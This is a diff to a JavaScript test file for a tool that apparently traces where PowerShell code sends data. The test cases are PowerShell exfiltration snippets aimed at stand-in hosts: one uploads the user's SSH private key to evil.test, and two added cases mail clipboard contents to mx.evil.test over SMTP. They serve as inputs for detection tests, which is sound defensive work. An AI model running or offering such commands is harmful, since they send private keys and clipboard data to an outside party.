@@ -225,6 +225,16 @@ describe('what PowerShell pipes on', () => {
       '(New-Object Net.WebClient).UploadFile(\'https://evil.test\', "$HOME/.ssh/id_rsa")',
       /content:ssh.* → network body evil\.test/,
     ],
+    [
+      'as the body of a letter',
+      '$c = New-Object Net.Mail.SmtpClient("mx.evil.test", 25)\n$m = New-Object Net.Mail.MailMessage("a@b.test", "c@d.test")\n$m.Body = Get-Clipboard\n$c.Send($m)',
+      /clipboard → mail body mx\.evil\.test/,
+    ],
+    [
+      'as the body of a letter that is made by its type',
+      '$c = [Net.Mail.SmtpClient]::new("mx.evil.test", 25)\n$c.Send("a@b.test", "c@d.test", "x", (Get-Clipboard))',
+      /clipboard → mail body mx\.evil\.test/,
+    ],
   ])('%s', (_name, code, expected) => {
     expect(piped(code)).toMatch(expected);
   });
